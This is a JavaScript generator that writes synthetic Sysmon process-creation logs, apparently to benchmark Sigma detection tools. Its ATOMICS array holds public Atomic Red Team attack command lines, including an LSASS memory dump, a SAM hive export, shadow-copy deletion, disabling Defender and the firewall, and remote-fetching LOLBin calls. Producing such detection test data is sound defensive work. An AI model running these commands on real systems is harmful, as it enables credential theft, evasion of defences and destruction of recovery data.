// Atomic-style Sysmon process creation events (EventID 1) as flat JSON lines (the shape Sigma tools
// read without a mapping: {"EventID": 1, "Image": ..., "CommandLine": ...}), 850-900 bytes on average.
// Most are the demo's own process creations (benign noise and its Atomic Red Team runs); one in eight
// is a well-known Atomic Red Team command line run from cmd.exe, as Invoke-AtomicTest does. Every
// line gets its own record id, process id and GUID and time, so no two lines are the same.
import {createHash} from 'node:crypto';
import {createWriteStream} from 'node:fs';
import {demoPool, T0} from './lib.js';

const SYS32 = 'C:\\Windows\\System32';
const ART = 'https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics';
const PS = 'WindowsPowerShell\\v1.0\\powershell.exe';
// [image under System32, command line]: public Atomic Red Team tests (the technique in the comment).
const ATOMICS = [
	[
		'rundll32.exe',
		'rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 ' + 'C:\\Windows\\Temp\\lsass.dmp full',
	], // T1003.001
	['reg.exe', 'reg save HKLM\\sam %temp%\\sam'], // T1003.002
	['vssadmin.exe', 'vssadmin.exe delete shadows /all /quiet'], // T1490
	['bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled no'], // T1490
	['wbadmin.exe', 'wbadmin delete catalog -quiet'], // T1490
	['certutil.exe', `certutil.exe -urlcache -split -f ${ART}/T1105/T1105.yaml Atomic-license.txt`], // T1105
	['certutil.exe', 'certutil.exe -decode %temp%\\T1140_calc.txt %temp%\\T1140_calc_decoded.exe'], // T1140
	['schtasks.exe', 'schtasks /create /tn "T1053_005_OnLogon" /sc onlogon /tr "cmd.exe /c calc.exe"'], // T1053.005
	[
		'sc.exe',
		'sc.exe create ARTService binPath= "%COMSPEC% /c powershell.exe -nop -w hidden -command ' +
			'New-Item -ItemType File C:\\art-marker.txt"',
	], // T1543.003
	[
		'reg.exe',
		'reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Atomic /t REG_SZ /d ' +
			'C:\\Path\\AtomicRedTeam.exe /f',
	], // T1547.001
	[
		'reg.exe',
		'reg.exe add hkcu\\software\\classes\\mscfile\\shell\\open\\command /ve /d ' +
			'"C:\\Windows\\System32\\cmd.exe" /f',
	], // T1548.002
	['mshta.exe', `mshta.exe javascript:a=(GetObject('script:${ART}/T1218.005/src/mshta.sct')).Exec();close();`], // T1218.005
	['wevtutil.exe', 'wevtutil cl System'], // T1070.001
	['net.exe', 'net user /add T1136.001_CMD T1136.001_CMD!'], // T1136.001
	['net.exe', 'net localgroup administrators'], // T1069.001
	['net.exe', 'net group "domain admins" /domain'], // T1069.002
	['nltest.exe', 'nltest.exe /domain_trusts'], // T1482
	['whoami.exe', 'whoami /all'], // T1033
	['systeminfo.exe', 'systeminfo'], // T1082
	['wbem\\WMIC.exe', 'wmic process call create notepad.exe'], // T1047
	['netsh.exe', 'netsh advfirewall set currentprofile state off'], // T1562.004
	['attrib.exe', 'attrib.exe +h %temp%\\T1564.001.txt'], // T1564.001
	[
		PS,
		'powershell.exe -exec bypass -noprofile -EncodedCommand ' +
			'UwB0AGEAcgB0AC0AUAByAG8AYwBlAHMAcwAgAGMAYQBsAGMALgBlAHgAZQA=',
	], // T1059.001
	[PS, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'], // T1562.001
	[
		'bitsadmin.exe',
		`bitsadmin.exe /transfer /Download /priority Foreground ${ART}/T1197/T1197.md ` + `%temp%\\bitsadmin1_flag.ps1`,
	], // T1197
	['regsvr32.exe', `regsvr32.exe /s /u /i:${ART}/T1218.010/src/RegSvr32.sct scrobj.dll`], // T1218.010
];
const CMD = `${SYS32}\\cmd.exe`;
// What the flat form keeps of EventData (the evtx_dump fields a process creation carries).
const KEEP = [
	'UtcTime',
	'ProcessGuid',
	'ProcessId',
	'Image',
	'FileVersion',
	'Description',
	'Product',
	'Company',
	'OriginalFileName',
	'CommandLine',
	'CurrentDirectory',
	'User',
	'LogonId',
	'IntegrityLevel',
	'Hashes',
	'ParentProcessGuid',
	'ParentProcessId',
	'ParentImage',
	'ParentCommandLine',
];

function rng(seed) {
	let s = seed >>> 0;
	return () => {
		s = (s + 0x6d2b79f5) >>> 0;
		let t = s;
		t = Math.imul(t ^ (t >>> 15), t | 1);
		t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
		return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
	};
}

const hex = (r, n) => Array.from({length: n}, () => Math.floor(r() * 16).toString(16)).join('');
const guid = r => `{${hex(r, 8)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 4)}-${hex(r, 12)}}`;
const utc = ms => new Date(ms).toISOString().replace('T', ' ').replace('Z', '');

/** The demo's process creations, flattened: the templates the lines vary. */
async function templates(count) {
	const out = [];
	// About one demo event in eight is a Windows process creation.
	for (const m of await demoPool('sysmon', count * 9, {perFlush: 500, seed: 11})) {
		const o = JSON.parse(m.value).Event;
		if (o.System.EventID !== 1 || o.System.Channel !== 'Microsoft-Windows-Sysmon/Operational') continue;
		const flat = {EventID: 1, Channel: o.System.Channel, Computer: o.System.Computer};
		// Fields the agent could not fill ("-") are left out, as many collectors do.
		for (const k of KEEP) if (o.EventData[k] !== undefined && o.EventData[k] !== '-') flat[k] = o.EventData[k];
		// One hash algorithm (a common Sysmon setting) rather than every one.
		if (flat.Hashes)
			flat.Hashes = flat.Hashes.split(',')
				.filter(h => h.startsWith('SHA256='))
				.join(',');
		out.push(flat);
		if (out.length >= count) break;
	}
	return out;
}

/** `events` lines (JSON, without the newline) varied from the templates. */
function* linesOf(pool, events, seed) {
	const r = rng(seed);
	for (let i = 0; i < events; i++) {
		const base = pool[i % pool.length];
		const pid = () => 1000 + Math.floor(r() * 60_000);
		const ev = {
			...base,
			EventRecordID: 2_000_000 + i,
			UtcTime: utc(T0 + i * 37),
			ProcessGuid: guid(r),
			ProcessId: pid(),
		};
		if (i % 8 === 3) {
			const [image, cmdline] = ATOMICS[Math.floor(r() * ATOMICS.length)];
			Object.assign(ev, {
				Image: `${SYS32}\\${image}`,
				OriginalFileName: image.slice(image.lastIndexOf('\\') + 1).toUpperCase(),
				CommandLine: cmdline,
				CurrentDirectory: 'C:\\AtomicRedTeam\\',
				IntegrityLevel: 'High',
				Hashes: `SHA256=${createHash('sha256').update(image).digest('hex').toUpperCase()}`,
				ParentImage: CMD,
				ParentCommandLine: `"cmd.exe" /c ${cmdline}`,
				ParentProcessId: pid(),
				ParentProcessGuid: guid(r),
			});
		}
		yield JSON.stringify(ev);
	}
}

/**
 * The Atomic-style lines without writing them (the in-process benchmarks):
 * {templates, lines}, lines a generator of `events` JSON lines without their newline.
 */
export async function atomicSysmonLines(events, {templateCount = 10_000, seed = 5} = {}) {
	const pool = await templates(Math.min(templateCount, events));
	return {templates: pool.length, lines: linesOf(pool, events, seed)};
}

/** Writes `events` lines to `path`; resolves to {events, bytes}. */
export async function writeAtomicSysmon(path, events, options = {}) {
	const {templates: count, lines} = await atomicSysmonLines(events, options);
	const out = createWriteStream(path);
	let bytes = 0;
	let chunk = [];
	for (const json of lines) {
		const line = json + '\n';
		bytes += line.length;
		chunk.push(line);
		if (chunk.length >= 2000) {
			if (!out.write(chunk.join(''))) await new Promise(resolve => out.once('drain', resolve));
			chunk = [];
		}
	}
	out.end(chunk.join(''));
	await new Promise((resolve, reject) => out.on('finish', resolve).on('error', reject));
	return {events, bytes, templates: count};
}
